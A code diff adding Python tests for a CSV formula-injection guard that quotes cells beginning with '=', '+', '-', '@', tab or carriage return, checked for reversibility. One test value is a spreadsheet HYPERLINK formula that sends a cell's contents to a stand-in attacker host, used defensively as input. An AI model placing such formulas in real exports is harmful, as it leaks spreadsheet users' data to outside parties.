@@ -3,12 +3,21 @@
 from __future__ import annotations
 
 import csv
+import io
 from pathlib import Path
 
 import pytest
 from gototraining import ValidationError
 from gototraining._builders import registrants
-from gototraining.cli.csvio import read_people
+from gototraining.cli.csvio import (
+    FORMULA_TRIGGERS,
+    csv_bytes,
+    guard_cell,
+    read_people,
+    unguard_cell,
+)
+from hypothesis import given
+from hypothesis import strategies as st
 
 
 def _people_file(path: Path, email: str, given: str, surname: str) -> Path:
@@ -55,3 +64,58 @@ def test_the_name_limit_has_one_definition(tmp_path: Path, monkeypatch: pytest.M
     people = read_people(_people_file(tmp_path / "p.csv", "ada@example.com", "Adelaide", "L"))
     (bad,) = people.bad_rows
     assert bad.reasons == ("given_name: at most 5 characters, got 8",)
+
+
+# -- the formula guard ---------------------------------------------------------------------------
+
+
+@given(st.text())
+def test_guard_is_reversible_and_leaves_no_formula(value: str) -> None:
+    guarded = guard_cell(value)
+    assert unguard_cell(guarded) == value
+    assert not guarded.startswith(FORMULA_TRIGGERS)
+
+
+@pytest.mark.parametrize(
+    ("value", "guarded"),
+    [
+        (
+            '=HYPERLINK("https://evil.example/?d="&B2,"Open")',
+            '\'=HYPERLINK("https://evil.example/?d="&B2,"Open")',
+        ),
+        ("+1", "'+1"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("'=x", "''=x"),  # already quoted: one more, so that reading restores it
+        ("Ada", "Ada"),
+        ("O'Brien", "O'Brien"),
+        ("'quoted'", "'quoted'"),
+        ("", ""),
+    ],
+)
+def test_guard_cell(value: str, guarded: str) -> None:
+    assert guard_cell(value) == guarded
+    assert unguard_cell(guarded) == value
+
+
+def test_csv_bytes_guards_cells_but_not_the_header_and_quotes_a_bare_cr() -> None:
+    data = csv_bytes(["=h", "b"], [["=1+1", "a\rb"], ["x", "y"]]).decode()
+    assert data.splitlines()[0] == "=h,b"
+    rows = list(csv.reader(io.StringIO(data, newline="")))
+    assert rows == [["=h", "b"], ["'=1+1", "a\rb"], ["x", "y"]]
+    assert list(csv.reader(io.StringIO(csv_bytes(["a"], [["=1"]], raw=True).decode()))) == [
+        ["a"],
+        ["=1"],
+    ]
+
+
+def test_read_people_reads_guarded_cells_back(tmp_path: Path) -> None:
+    path = _people_file(tmp_path / "p.csv", "'-x@example.com", "'=Ada", "''=Lovelace")
+    (person,) = read_people(path).people
+    assert (person.email, person.given_name, person.surname) == (
+        "-x@example.com",
+        "=Ada",
+        "'=Lovelace",
+    )
